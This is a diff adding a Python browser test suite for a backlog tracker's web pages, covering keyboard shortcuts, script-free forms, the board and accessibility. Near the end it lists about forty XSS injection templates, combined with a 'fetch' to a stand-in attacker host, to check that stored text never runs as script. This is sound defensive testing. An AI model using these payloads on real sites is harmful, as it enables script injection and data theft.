@@ -1,0 +1,369 @@
+"""
+The pages in Debian's Chromium, served by the real service: what people see, press and drag, with and without script.
+"""
+
+from __future__ import annotations
+
+import itertools
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from msgspec import Struct
+
+from backlog_store import open_backlog
+from backlog_store.backlog import Backlog
+from backlog_store.model import Draft
+from backlog_store.query import live
+from backlog_store.testing.postgres import PostgresServer
+from tests.system.browsing import Served, Visitor, browser, filled
+
+#: Every page that stands by itself; `{id}` is an item.
+PAGES = (
+    "/now",
+    "/items",
+    "/items?q=nothing-has-this-word",
+    "/board",
+    "/dashboard",
+    "/items/new",
+    "/items/{id}",
+    "/api",
+)
+
+Visit = Callable[..., Visitor]
+
+
+class Place(Struct):
+    """
+    A served store.
+    """
+
+    store: str
+    url: str
+
+    def backlog(self) -> Backlog:
+        """
+        Return the store itself, beside the service.
+        """
+        return open_backlog(self.store, actor="scanner")
+
+    def added(self, title: str) -> str:
+        """
+        Return the id of a new item.
+        """
+        with self.backlog() as backlog:
+            return backlog.create(Draft(title=title, service="web", priority="P0")).id
+
+    def item(self, id: str) -> Any:
+        """
+        Return an item as it is stored.
+        """
+        with self.backlog() as backlog:
+            return backlog.get(id)
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    """
+    The system's browser.
+    """
+    with browser() as one:
+        yield one
+
+
+@pytest.fixture(scope="module", params=["sqlite", "postgres"])
+def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    """
+    A served store with something of everything in it.
+    """
+    folder = tmp_path_factory.mktemp("served")
+    if request.param == "sqlite":
+        yield from _served(f"sqlite:///{folder}/backlog.db", folder)
+    else:
+        with PostgresServer() as server:
+            yield from _served(server.create_database(), folder)
+
+
+def _served(store: str, folder: Path) -> Iterator[Place]:
+    filled(store)
+    with Served(store, folder) as served:
+        yield Place(store=store, url=served.url)
+
+
+@pytest.fixture
+def visit(chromium: Any, request: pytest.FixtureRequest) -> Iterator[Visit]:
+    """
+    A function that opens a browser session on a service; each must have nothing to complain of at the end.
+    """
+    visitors: list[Visitor] = []
+
+    def come(place: Place, **how: Any) -> Visitor:
+        visitors.append(Visitor(chromium, place.url, **how))
+        return visitors[-1]
+
+    yield come
+    for visitor in visitors:
+        visitor.close()
+
+
+def first(place: Place) -> str:
+    """
+    Return the id of the most urgent item.
+    """
+    with place.backlog() as backlog:
+        return backlog.search(live(), limit=1)[0].id
+
+
+@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
+def test_every_page_loads_from_here_alone(place: Place, visit: Visit, *, script: bool) -> None:
+    """
+    Each page comes with no word on the console and no request to anybody else, and has one heading of its own.
+    """
+    visitor = visit(place, script=script)
+    for path in PAGES:
+        page = visitor.go(path.format(id=first(place)))
+        assert page.locator("h1").count() == 1, path
+
+
+@pytest.mark.parametrize("place", ["sqlite"], indirect=True)
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_every_page_is_accessible(place: Place, visit: Visit, scheme: str) -> None:
+    """
+    Axe finds nothing wrong, light and dark.
+    """
+    visitor = visit(place, scheme=scheme)
+    for path in PAGES:
+        visitor.go(path.format(id=first(place)))
+        assert visitor.violations() == [], path
+
+
+def test_keys_of_a_list(place: Place, visit: Visit) -> None:
+    """
+    Help, filter, walking, selecting, opening, and each key on a row that opens its field on the item's page.
+    """
+    page = visit(place).go("/items")
+    page.keyboard.press("?")
+    assert page.locator("#help").is_visible()
+    page.keyboard.press("Escape")
+    assert not page.locator("#help").is_visible()
+    page.keyboard.press("/")
+    assert focused(page) == "q"
+    page.keyboard.press("Escape")
+    for key in "jjk":
+        page.keyboard.press(key)
+    rows = page.locator("tr[data-href]")
+    assert rows.nth(0).get_attribute("class") == "here"
+    page.keyboard.press("x")
+    assert rows.nth(0).locator("input").is_checked()
+    assert page.locator(".picked").inner_text() == "With the 1 selected:"
+    target = rows.nth(0).get_attribute("data-href")
+    page.keyboard.press("e")
+    page.wait_for_url(f"**{target}#e")
+    page.wait_for_function("document.activeElement.id === 'title'")
+    page.go_back()
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/items/bl_*")
+    page.keyboard.press("c")
+    page.wait_for_url("**/items/new")
+
+
+@pytest.mark.parametrize(
+    ("key", "field"),
+    [
+        ("p", "priority"),
+        ("a", "owner"),
+        ("d", "due"),
+        ("m", "comment"),
+        ("e", "title"),
+        ("l", "reason"),
+        ("z", "until"),
+    ],
+)
+def test_keys_of_an_item(place: Place, visit: Visit, key: str, field: str) -> None:
+    """
+    Each key leads to its field.
+    """
+    page = visit(place).go(f"/items/{first(place)}")
+    page.keyboard.press(key)
+    assert focused(page) == field
+
+
+def test_a_move_by_key_is_undone_by_key(place: Place, visit: Visit) -> None:
+    """
+    `s` moves the item on, `u` sets it back.
+    """
+    id = place.added("Moved by key")
+    page = visit(place).go(f"/items/{id}")
+    page.keyboard.press("s")
+    page.wait_for_url("**did=updated**")
+    assert place.item(id).status == "in_progress"
+    page.keyboard.press("u")
+    page.wait_for_function("!document.querySelector('.status.in_progress')")
+    assert place.item(id).status == "open"
+
+
+def test_keys_lead_from_page_to_page(place: Place, visit: Visit) -> None:
+    """
+    `g` and a letter open each page that the head names; single keys can be switched off for good.
+    """
+    page = visit(place).go(f"/items/{first(place)}")
+    pairs = page.locator("[data-go]").evaluate_all("links => links.map(one => [one.dataset.go, one.pathname])")
+    for key, path in pairs:
+        page.keyboard.press("g")
+        page.keyboard.press(key)
+        page.wait_for_url(f"**{path}")
+    page.keyboard.press("?")
+    page.locator("#keys-off").check()
+    page.keyboard.press("Escape")
+    page.reload()
+    page.keyboard.press("?")
+    assert not page.locator("#help").is_visible()
+
+
+def test_the_palette_finds_pages_and_words(place: Place, visit: Visit) -> None:
+    """
+    Ctrl K, a few letters and Enter open a page; anything else is looked for.
+    """
+    page = visit(place).go("/items")
+    page.keyboard.press("Control+k")
+    page.keyboard.type("dashb")
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/dashboard")
+    page.keyboard.press("Control+k")
+    page.keyboard.type("certificate")
+    page.keyboard.press("Enter")
+    page.wait_for_url("**/items?q=certificate")
+    assert page.locator("tr[data-href]").count() > 0
+
+
+def test_everything_is_done_without_script(place: Place, visit: Visit) -> None:
+    """
+    Adding, editing, moving, commenting, snoozing, closing, reopening and undoing are plain forms.
+    """
+    page = visit(place, script=False).go("/items/new")
+    page.fill("#new-title", "By hand")
+    page.fill("#new-due_date", "+3d")
+    page.click("text=Add")
+    page.wait_for_url("**/items/bl_*")
+    id = re.search(r"bl_\w+", page.url)[0]  # type: ignore[index]
+    page.click("summary:has-text('Edit')")
+    page.fill("#owner", "ben")
+    page.click("button:has-text('Save')")
+    page.click("button:has-text('Start')")
+    page.fill("#comment", "On it.")
+    page.click("button:has-text('Comment')")
+    page.click("summary:has-text('Snooze')")
+    page.fill("#until", "+2d")
+    page.click("form[action$=snooze] button")
+    page.click("summary:has-text('Close')")
+    page.select_option("#reason", "wont_fix")
+    page.click("button:has-text('Close the item')")
+    assert place.item(id).closed_reason == "wont_fix"
+    page.click("button:has-text('Undo')")
+    item = place.item(id)
+    assert (item.status, item.owner, item.closed_reason, bool(item.wake_at)) == ("in_progress", "ben", "", True)
+
+
+@pytest.mark.parametrize("script", [True, False], ids=["script", "no-script"])
+def test_several_are_changed_as_previewed(place: Place, visit: Visit, *, script: bool) -> None:
+    """
+    Selected rows are previewed, then changed, then set back.
+    """
+    ids = [place.added(f"Of many {n}") for n in range(2)]
+    page = visit(place, script=script).go("/items?q=many")
+    for id in ids:
+        page.check(f"tr[data-id={id}] input")
+    page.select_option("#bulk-verb", "edit")
+    page.select_option("select[name=priority]", "P3")
+    page.click("button:has-text('Preview')")
+    assert "2 of 2 items would change" in page.locator("h1").inner_text()
+    page.click("button:has-text('Do it for 2')")
+    assert [place.item(id).priority for id in ids] == ["P3", "P3"]
+    page.click("button:has-text('Undo')")
+    assert [place.item(id).priority for id in ids] == ["P0", "P0"]
+
+
+def test_the_board_by_keyboard(place: Place, visit: Visit) -> None:
+    """
+    `>` moves the current card to the next column and `<` back.
+    """
+    id = place.added("Slides")
+    page = visit(place).go("/board?q=slides")
+    for key, status in ((">", "in_progress"), (">", "blocked"), ("<", "in_progress")):
+        page.locator(f".card[data-id={id}] > p > a").focus()
+        page.keyboard.press(key)
+        page.wait_for_selector(f".cards[data-status={status}] .card[data-id={id}]")
+        page.wait_for_load_state()
+        assert place.item(id).status == status
+
+
+def test_the_board_by_dragging(place: Place, visit: Visit) -> None:
+    """
+    A card that is dropped in another column is moved there, and stays.
+    """
+    id = place.added("Dragged")
+    page = visit(place).go("/board?q=dragged")
+    card = page.locator(f".card[data-id={id}]")
+    lane = page.locator(".cards[data-status=in_progress]")
+    with page.expect_navigation():
+        card.drag_to(lane)
+    assert place.item(id).status == "in_progress"
+    page.wait_for_selector(f".cards[data-status=in_progress] .card[data-id={id}]")
+
+
+#: Ways to smuggle a script into a page, and what the script would do.
+WAYS = (
+    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</title><script>{0}</script>", "</textarea><script>{0}</script>",
+    "</script><script>{0}</script>", "--><script>{0}</script>", '"><script>{0}</script>', "'><script>{0}</script>",
+    "<img src=x onerror={0}>", "<img src=x onerror='{0}'>", '"><img src=x onerror="{0}">', "<svg onload={0}>",
+    "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<body onload={0}>", "<iframe src=javascript:{0}>",
+    "<iframe srcdoc='<script>{0}</script>'>", "<a href=javascript:{0}>x</a>", "[x](javascript:{0})",
+    "[x](java\tscript:{0})", "[x](&#106;avascript:{0})", "[x](JAVASCRIPT:{0})", "<javascript:{0}>",
+    "![x](javascript:{0})", '![x](x"onerror="{0})', "[x](x 'onclick={0} x')", "[a]: javascript:{0}\n\n[a]",
+    "[x](data:text/html,<script>{0}</script>)", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>",
+    '" autofocus onfocus="{0}', "' autofocus onfocus='{0}", "<object data=javascript:{0}>",
+    "<embed src=javascript:{0}>", "<link rel=import href=javascript:{0}>",
+    "<base href=javascript:{0}//>", "{{{{ {0} }}}}",
+    "<math><mtext></p><script>{0}</script>", "<style>@import 'javascript:{0}'</style>",
+    "<form action=javascript:{0}><button autofocus>x</button></form>",
+)  # fmt: skip
+DOES = ("alert(1)", "xss(1)", "fetch(`//evil.example/`)")
+HOSTILE = tuple(way.format(does) for way, does in itertools.product(WAYS, DOES))
+
+
+def test_stored_text_never_becomes_a_script(chromium: Any, visit: Visit, tmp_path: Path) -> None:
+    """
+    None of 120 payloads in titles, descriptions, tags, comments, evidence, keys and services runs on any page.
+    """
+    assert len(HOSTILE) == 120
+    store = f"sqlite:///{tmp_path}/hostile.db"
+    with open_backlog(store, actor="mallory") as backlog:
+        ids = [backlog.create(_hostile(text)).id for text in HOSTILE]
+        for id, text in zip(ids, HOSTILE, strict=True):
+            backlog.comment(id, text)
+    with Served(store, tmp_path) as served:
+        visitor = visit(Place(store=store, url=served.url))
+        visitor.context.expose_binding("xss", lambda *_: visitor.ran.append("xss"))
+        pages = ["/now", "/items?limit=200", "/board", "/dashboard"]
+        for path in [*pages, *(f"/items/{id}" for id in ids)]:
+            page = visitor.go(path)
+            assert page.locator("main :is(script, iframe, object, embed, style, base, link, img)").count() == 0, path
+            links = page.locator("main a").evaluate_all("links => links.map(one => one.protocol)")
+            assert set(links) <= {"http:", "https:", "mailto:"}, path
+
+
+def _hostile(text: str) -> Draft:
+    line = " ".join(text.split())
+    evidence = {"urls": [text], "notes": text}
+    return Draft(title=line, description=text, service=line[:100], dedupe_key=line, tags=(line[:90],), fix=line,
+                 category=line[:60], meta={"x": text}, evidence_refs=evidence)  # fmt: skip
+
+
+def focused(page: Any) -> str:
+    """
+    Return the id of what has the focus.
+    """
+    return str(page.evaluate("document.activeElement.id"))
